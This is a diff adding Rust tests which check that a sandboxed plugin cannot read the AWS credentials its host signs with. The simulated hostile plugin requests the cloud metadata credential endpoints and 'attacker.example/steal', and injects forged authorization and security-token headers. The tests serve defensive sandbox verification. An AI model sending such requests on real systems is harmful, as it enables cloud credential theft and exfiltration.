@@ -697,3 +697,114 @@ print(ec2.create_vpc(CidrBlock="10.42.0.0/16")["Vpc"]["VpcId"])
 
 /// An unmistakable secret access key of the tests.
 const SECRET: &str = "demarcSECRETaccessKEY0123456789abcdefghij";
+
+/// A session token of the tests.
+const TOKEN: &str = "demarcSESSIONtoken-FwoGZXIvYXdzEJr-0123456789";
+
+/// The hostile plugin hunts for the credentials the host signs with: a loopback server granted as
+/// an AWS endpoint echoes the signed request it received (a signature and token of the plugin's
+/// own added), the metadata endpoints of AWS are tried by address, and an attacker's host by
+/// name. (Reading the host's environment and files is covered by the sandbox tests: the plugin's
+/// WASI context holds no environment variable and no file outside its snapshot.) The server (standing for the cloud) receives the
+/// access key id and the signature by necessity; the plugin reads neither the secret access key
+/// nor the session token anywhere: the echoed body is cut off and counted, and what the plugin
+/// saw, its findings, and the refusal gap hold neither.
+#[test]
+fn the_plugin_never_reads_the_credentials_the_host_signs_with() {
+    let server = Server::start();
+    let creds = Credentials::new(
+        "AKIDDEMARCHOSTILE",
+        SECRET,
+        Some(TOKEN.into()),
+        None,
+        "test",
+    );
+    let requests = [
+        server.url("/echo"),
+        server.url("/ok"),
+        format!(
+            "{} header=authorization:stolen header=x-amz-security-token:planted",
+            server.url("/echo")
+        ),
+        "http://169.254.169.254/latest/meta-data/iam/security-credentials/".to_string(),
+        "http://[fd00:ec2::254]/latest/api/token".to_string(),
+        "http://169.254.170.2/v2/credentials".to_string(),
+        "https://attacker.example/steal".to_string(),
+    ];
+    let (o, seen) = fetch(
+        &requests,
+        Some(signed_grant(vec![server.endpoint()], &["eu-west-1"], creds)),
+    );
+    // The echo is cut off before the plugin reads the token in it; a plain answer passes.
+    assert!(seen[0].contains("-> error"), "{}", seen[0]);
+    assert!(
+        seen[1].contains("-> 200") && seen[1].contains("hello"),
+        "{}",
+        seen[1]
+    );
+    assert!(seen[2].contains("-> error"), "{}", seen[2]);
+    for s in &seen[3..] {
+        assert!(denied(s), "{s}");
+    }
+    assert_eq!(refused(&o, Refusal::CredentialEcho), 2);
+    // Metadata addresses are outside the grant before their address is even looked at.
+    assert_eq!(refused(&o, Refusal::OutsideGrant), 4);
+    let gap = refusal_gap(&o);
+    assert!(gap.contains("2 whose response echoed credentials"), "{gap}");
+    for text in seen
+        .iter()
+        .chain([&gap])
+        .chain(o.gaps.iter().map(|g| &g.message))
+    {
+        assert!(
+            !text.contains(SECRET),
+            "the secret reached the plugin: {text}"
+        );
+        assert!(
+            !text.contains(TOKEN),
+            "the token reached the plugin: {text}"
+        );
+    }
+    // What reached the server: the host's signature, never the plugin's, never the secret.
+    let heads = server.seen();
+    assert_eq!(heads.len(), 3, "{heads:#?}");
+    for head in &heads {
+        let lower = head.to_ascii_lowercase();
+        assert!(
+            lower.contains("authorization: aws4-hmac-sha256 credential=akiddemarchostile/"),
+            "{head}"
+        );
+        assert!(
+            !lower.contains("stolen") && !lower.contains("planted"),
+            "{head}"
+        );
+        assert!(!head.contains(SECRET), "{head}");
+    }
+}
+
+/// The host signs for the AWS endpoints of the grant and no other: a granted endpoint that is
+/// not marked AWS receives the plugin's request unsigned, without a signature the plugin wrote.
+#[test]
+fn an_endpoint_not_marked_aws_gets_no_signature() {
+    let server = Server::start();
+    let other = Server::start();
+    let creds = Credentials::new(
+        "AKIDDEMARCHOSTILE",
+        SECRET,
+        Some(TOKEN.into()),
+        None,
+        "test",
+    );
+    let mut g = signed_grant(vec![server.endpoint()], &[], creds);
+    g.endpoints.push(other.endpoint());
+    let (o, seen) = fetch(
+        &[format!("{} header=authorization:mine", other.url("/echo"))],
+        Some(g),
+    );
+    assert!(o.completed, "{:?}", o.gaps);
+    assert!(seen[0].contains("-> 200"), "{}", seen[0]);
+    let lower = seen[0].to_ascii_lowercase();
+    assert!(!lower.contains("authorization"), "{}", seen[0]);
+    assert!(!lower.contains("x-amz"), "{}", seen[0]);
+    assert!(server.seen().is_empty());
+}
